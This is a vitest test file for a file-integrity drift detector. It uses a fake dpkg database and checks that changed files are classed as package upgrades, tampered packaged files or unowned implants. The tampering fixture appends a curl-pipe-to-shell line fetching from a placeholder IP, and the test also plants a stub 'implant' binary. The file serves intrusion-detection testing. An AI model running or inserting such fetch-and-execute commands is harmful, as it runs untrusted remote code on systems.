import { execFileSync, spawn, spawnSync } from "node:child_process";
import { appendFileSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { driftModule } from "../../agent/modules/drift/index.js";
import { tagOrigins } from "../../agent/modules/drift/origin.js";
import { loadPackageFiles, packagedDirectories } from "../../agent/modules/host/package-files.js";
import { silentLogger } from "../../common/mod.js";
import { DriftParams, type DriftResult } from "../../proto/api.js";
import {
  installFakePackage,
  makePackageRoot,
  md5sum,
  upgradePackagedFile,
} from "../helpers/fake-packages.js";
import { eventually, tempDir } from "../helpers/fleet.js";

// Drift's origin tags in a root the test builds with its own dpkg database
// (DRAGNET_PACKAGE_ROOT points the agent's package reading at it): a package
// "upgrade" (new content, and its new MD5 written in the package's md5sums as
// dpkg does) is "package"; an edit of another packaged file is "modified"; a
// file no package lists is "unowned". dpkg itself confirms the database is
// one it reads: `dpkg --verify` over the same root flags exactly the edit.

let root: string;
let state: string;

async function drift(p: Partial<DriftParams>): Promise<DriftResult> {
  const params = DriftParams.fromPartial(p);
  driftModule.check(params);
  const ctx = { signal: new AbortController().signal, log: silentLogger, stateDir: state };
  return (await driftModule.run(params, ctx)).result;
}

beforeAll(() => {
  root = tempDir("dragnet-origin-root-");
  state = tempDir("dragnet-origin-state-");
  makePackageRoot(root);
  installFakePackage(root, "dragnet-fake-tools", {
    "usr/bin/tool-a": "#!/bin/sh\necho a 1.0\n",
    "usr/bin/tool-b": "#!/bin/sh\necho b\n",
  });
  installFakePackage(root, "dragnet-fake-extra", { "usr/bin/tool-c": "#!/bin/sh\necho c\n" });
  process.env.DRAGNET_PACKAGE_ROOT = root;
});

afterAll(() => {
  delete process.env.DRAGNET_PACKAGE_ROOT;
  rmSync(root, { recursive: true, force: true });
  rmSync(state, { recursive: true, force: true });
});

describe("drift origin", () => {
  it("tells an upgrade (package), an edit of a packaged file (modified) and a planted file (unowned) apart", async () => {
    const bin = join(root, "usr/bin");
    await drift({ mode: "baseline", name: "usr", paths: [bin] });

    // The upgrade: new bytes, and dpkg's record of them.
    upgradePackagedFile(root, "dragnet-fake-tools", "usr/bin/tool-a", "#!/bin/sh\necho a 2.0\n");
    // The tampering, the deletion and the implant.
    appendFileSync(join(bin, "tool-b"), "curl -s http://203.0.113.9/x | sh\n");
    rmSync(join(bin, "tool-c"));
    writeFileSync(join(bin, "implant"), "\x7fELF...", { mode: 0o755 });

    // dpkg reads the same database the same way: only tool-b's checksum is wrong (tool-c is missing).
    const verify = execFileSync(
      "dpkg",
      [`--root=${root}`, `--admindir=${join(root, "var/lib/dpkg")}`, "--verify"],
      { encoding: "utf8" },
    ).split("\n");
    expect(verify.filter((l) => /^\?\?5/.test(l)).map((l) => l.split(" ").pop())).toEqual([
      "/usr/bin/tool-b",
    ]);
    expect(verify.some((l) => l.startsWith("missing") && l.endsWith("/usr/bin/tool-c"))).toBe(true);

    const r = await drift({ mode: "check", name: "usr" });
    const origins = Object.fromEntries(
      r.changes.map((c) => [c.path.slice(bin.length + 1), [c.kind, c.origin, c.package]]),
    );
    expect(origins).toEqual({
      implant: ["added", "unowned", ""],
      "tool-a": ["changed", "package", "dpkg:dragnet-fake-tools"],
      "tool-b": ["changed", "modified", "dpkg:dragnet-fake-tools"],
      "tool-c": ["removed", "modified", "dpkg:dragnet-fake-extra"],
    });
    // Past a few hundred changes the whole database is read instead of searched: the same answer.
    const again = r.changes.map((c) => ({ ...c, origin: "", package: "" }));
    await tagOrigins(again, undefined, await loadPackageFiles({ root, rpm: false }));
    expect(again.map((c) => [c.origin, c.package])).toEqual(r.changes.map((c) => [c.origin, c.package]));
  });

  it("waits for a running dpkg: a file moved in before its checksum is recorded is still told an upgrade", async () => {
    const bin = join(root, "usr/bin");
    await drift({ mode: "baseline", name: "mid-upgrade", paths: [bin] });
    // dpkg's order, by hand: the new file is in place, its MD5 is written only when dpkg lets go of its lock.
    const sums = join(root, "var/lib/dpkg/info/dragnet-fake-tools.md5sums");
    writeFileSync(join(bin, "tool-b"), "#!/bin/sh\necho b 3.0\n");
    const record = readFileSync(sums, "utf8").replace(
      /^[0-9a-f]{32}(?= {2}usr\/bin\/tool-b$)/m,
      md5sum(join(bin, "tool-b")),
    );
    writeFileSync(`${sums}.new`, record);
    const lock = join(root, "var/lib/dpkg/lock");
    writeFileSync(lock, "", { flag: "a" });
    const dpkg = spawn("flock", [lock, "sh", "-c", 'sleep 1.5 && mv "$1" "$2"', "sh", `${sums}.new`, sums]);
    const exited = new Promise((r) => dpkg.once("exit", r));
    // The lock is taken (flock shows in /proc/locks) before the check starts.
    await eventually(
      async () => readFileSync("/proc/locks", "utf8").includes(`:${statSync(lock).ino} `) || undefined,
    );
    const started = Date.now();
    const r = await drift({ mode: "check", name: "mid-upgrade" });
    await exited;
    const b = r.changes.find((c) => c.path.endsWith("/tool-b"))!;
    expect([b.origin, b.package]).toEqual(["package", "dpkg:dragnet-fake-tools"]);
    expect(Date.now() - started).toBeGreaterThan(500);
  });

  it("reads owners across the /bin → /usr/bin merge and through dpkg's diversions", async () => {
    writeFileSync(
      join(root, "var/lib/dpkg/diversions"),
      "/usr/bin/tool-b\n/usr/bin/tool-b.real\ndragnet-fake-extra\n",
    );
    const files = await loadPackageFiles({ root, rpm: false });
    // A merged-/usr path names the same file by /bin.
    expect(files.owner(join(root, "bin/tool-a"))?.package).toBe("dragnet-fake-tools");
    // Diverted: the diverting package owns the path; the diverted package's file lives on at .real.
    expect(files.owner(join(root, "usr/bin/tool-b.real"))?.package).toBe("dragnet-fake-tools");
    expect(files.owner(join(root, "usr/bin/implant"))).toBeUndefined();
    rmSync(join(root, "var/lib/dpkg/diversions"));
    // A checksum left behind in a package's md5sums for a file its list no longer names (dpkg
    // rewrites only the list when a file moves away) makes no owner, as for dpkg --verify.
    appendFileSync(
      join(root, "var/lib/dpkg/info/dragnet-fake-extra.md5sums"),
      `${"0".repeat(32)}  usr/bin/moved-away\n`,
    );
    writeFileSync(join(root, "usr/bin/moved-away"), "#!/bin/sh\n");
    const again = await loadPackageFiles({ root, rpm: false });
    expect(again.owner(join(root, "usr/bin/moved-away"))).toBeUndefined();
    expect(again.owner(join(root, "usr/bin/tool-b"))?.package).toBe("dragnet-fake-tools");
    // dpkg --verify (which exits 1: earlier cases left findings) does not check it either.
    const verify = spawnSync(
      "dpkg",
      [`--root=${root}`, `--admindir=${join(root, "var/lib/dpkg")}`, "--verify"],
      {
        encoding: "utf8",
      },
    );
    expect(verify.stdout).toContain("/usr/bin/tool-c");
    expect(verify.stdout).not.toContain("moved-away");
    expect(files.owner(join(root, "usr/bin"))?.digest).toBe("");
    // The directories packages have files in (a file elsewhere needs no search): both sides of the merge.
    const dirs = await packagedDirectories();
    expect([join(root, "usr/bin"), join(root, "bin"), join(root, "usr")].map((d) => dirs?.has(d))).toEqual([
      true,
      true,
      true,
    ]);
    expect(dirs?.has(join(root, "opt"))).toBe(false);
  });
});
